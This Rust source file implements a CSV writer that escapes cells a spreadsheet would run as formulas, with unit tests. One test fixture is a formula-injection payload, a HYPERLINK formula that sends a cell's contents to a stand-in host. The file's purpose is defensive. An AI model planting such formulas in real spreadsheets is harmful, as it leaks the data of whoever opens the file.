//! CSV that a spreadsheet reads as data. Every CSV Kriya writes goes through `CsvTable`, which
//! neutralises cells a spreadsheet would run as a formula (OWASP's CSV-injection rule: a cell
//! beginning with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`), so a
//! product titled `=HYPERLINK(…)` reaches the sheet as text.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as a spreadsheet should show it. Plain numbers (`-1500`, `2.5`) stay numbers:
/// they cannot carry a formula.
pub fn safe_cell(cell: &str) -> Cow<'_, str> {
    let risky = cell.starts_with(FORMULA_STARTS);
    if risky && !is_plain_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    let mut parts = digits.splitn(2, '.');
    let whole = parts.next().unwrap_or("");
    let frac = parts.next();
    !whole.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && frac.is_none_or(|f| !f.is_empty() && f.bytes().all(|b| b.is_ascii_digit()))
}

/// A CSV document built row by row; quoting is the `csv` crate's, escaping is ours.
pub struct CsvTable {
    writer: csv::Writer<Vec<u8>>,
}

impl Default for CsvTable {
    fn default() -> Self {
        Self::new()
    }
}

impl CsvTable {
    pub fn new() -> Self {
        Self {
            writer: csv::Writer::from_writer(Vec::new()),
        }
    }

    /// A document of several tables one below the other (a report's months, then its best
    /// products…), each under a title row and its own header row, an empty row between them.
    pub fn sections() -> Self {
        Self {
            writer: csv::WriterBuilder::new()
                .flexible(true)
                .from_writer(Vec::new()),
        }
    }

    /// Starts a table of [`Self::sections`].
    pub fn section<I, S>(&mut self, title: &str, header: I) -> Result<(), csv::Error>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.writer.flush()?;
        if !self.writer.get_ref().is_empty() {
            self.writer.write_record([""])?;
        }
        self.row([title])?;
        self.row(header)
    }

    pub fn row<I, S>(&mut self, cells: I) -> Result<(), csv::Error>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.writer.write_record(
            cells
                .into_iter()
                .map(|c| safe_cell(c.as_ref()).into_owned()),
        )
    }

    pub fn finish(self) -> Result<String, String> {
        let bytes = self.writer.into_inner().map_err(|e| e.to_string())?;
        String::from_utf8(bytes).map_err(|e| e.to_string())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text() {
        for cell in [
            "=HYPERLINK(\"https://x.example/?\"&A1,\"open\")",
            "+1+1",
            "-1+2",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "-",
            "=",
        ] {
            assert_eq!(safe_cell(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn plain_text_and_numbers_stay() {
        for cell in [
            "Kalung Daun",
            "185555",
            "-1500",
            "+62",
            "2.5",
            "",
            "a=b",
            "'quoted",
        ] {
            assert_eq!(safe_cell(cell), cell, "{cell:?}");
        }
    }

    #[test]
    fn sections_stack_tables_of_their_own_widths() {
        let mut t = CsvTable::sections();
        t.section("Months", ["month", "sales_idr"]).unwrap();
        t.row(["2021-02", "1500"]).unwrap();
        t.section("Top products", ["product", "units", "sales_idr"])
            .unwrap();
        t.row(["@Kalung", "2", "1500"]).unwrap();
        assert_eq!(
            t.finish().unwrap(),
            "Months\nmonth,sales_idr\n2021-02,1500\n\"\"\nTop products\n\
             product,units,sales_idr\n'@Kalung,2,1500\n"
        );
    }

    #[test]
    fn a_table_quotes_and_escapes() {
        let mut t = CsvTable::new();
        t.row(["title", "amount"]).unwrap();
        t.row(["=1+1, \"x\"", "-5"]).unwrap();
        assert_eq!(
            t.finish().unwrap(),
            "title,amount\n\"'=1+1, \"\"x\"\"\",-5\n"
        );
    }
}
